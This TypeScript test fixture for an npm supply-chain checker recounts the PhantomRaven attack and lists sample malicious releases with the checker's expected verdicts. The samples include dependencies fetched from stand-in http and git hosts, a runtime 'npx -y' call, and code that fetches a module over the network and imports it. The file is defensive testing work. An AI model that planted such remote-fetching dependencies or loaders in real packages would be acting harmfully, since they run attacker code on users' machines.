import { dependency, type Incident } from '../../support/incident.ts';

const index = `exports.format = (text) => text.trim();\n`;

export const incident: Incident = {
  title: 'A dependency from outside the registry',
  happened: `In October 2025 Koi Security described PhantomRaven: more than a hundred npm packages that named a dependency by an
http address of the attacker. npm fetched it at every installation, and pages showed "0 dependencies", so that scanners of the
registry saw an empty package. The server could answer each victim differently. Addresses of git repositories have the same
effect: a branch or a tag can move.`,
  server: 'formatter',
  approved: { files: { 'index.js': index } },
  attacks: [
    {
      title: 'a release with a dependency by http',
      change: { package: { dependencies: { 'ui-styles-pkg': 'http://packages.invalid/npm/ui-styles-pkg' } } },
      verdict: 'blocked',
      finds: ['problem unsatisfied-edge', 'block lock-unproven'],
    },
    {
      title: 'a release with a dependency by git, by the name of a branch',
      change: { package: { dependencies: { helper: 'git+https://git.invalid/somebody/helper.git#main' } } },
      verdict: 'blocked',
      finds: ['problem unsatisfied-edge', 'block lock-unproven'],
    },
    {
      title: 'a release with a dependency of a GitHub account, in short form',
      change: { package: { dependencies: { helper: 'somebody/helper' } } },
      verdict: 'blocked',
      finds: ['problem unsatisfied-edge', 'block lock-unproven'],
    },
    {
      title: 'a release that runs npx for another package while it runs',
      change: {
        files: {
          'index.js': `${index}exports.check = (path) => require('child_process').execFile('npx', ['-y', 'text-checker', path]);\n`,
        },
      },
      verdict: 'needs a person',
      finds: ['review code-fetches-package'],
    },
  ],
  nearMisses: [
    {
      title: 'a release that says how it is installed',
      change: {
        files: {
          'index.js': `${index}exports.help = 'Start it with: npx -y formatter-server';\nexports.list = () => require('child_process').execFile('npm', ['ls']);\n`,
        },
      },
      verdict: 'may be merged',
      finds: [],
    },
    {
      title: 'an optional dependency by http, which the lock leaves out and hosts never fetch',
      change: { package: { optionalDependencies: { helper: 'https://packages.invalid/helper.tgz' } } },
      verdict: 'may be merged',
      finds: [],
    },
    {
      title: 'a release with a dependency under another name, from the registry',
      change: {
        package: { dependencies: { folded: 'npm:text-folding@2.0.0' } },
        loads: [dependency('text-folding', '2.0.0', { 'index.js': 'exports.fold = (text) => text.toLowerCase();\n' })],
      },
      verdict: 'may be merged',
      finds: [],
    },
  ],
  unseen: [
    {
      title: 'a release that fetches another package by itself, unpacks it and loads it by a name that it computes',
      change: {
        files: {
          'index.js': `${index}exports.load = async (name) => {
  const { unpack } = require('./unpack.js');
  return import(await unpack(await fetch('https://registry.example.com/' + name)));
};
`,
          'unpack.js': `exports.unpack = async (answer) => answer.url;\n`,
        },
      },
      verdict: 'may be merged',
      finds: [],
      gap: 'follow what was received over the network to a module that is loaded',
      defence:
        'a host without npm in the path of servers; once hosts confine servers, the package registry is out of reach',
    },
  ],
  limit: 'What a server fetches while it runs. Everything that it loads at its start is in the lock or does not start.',
};
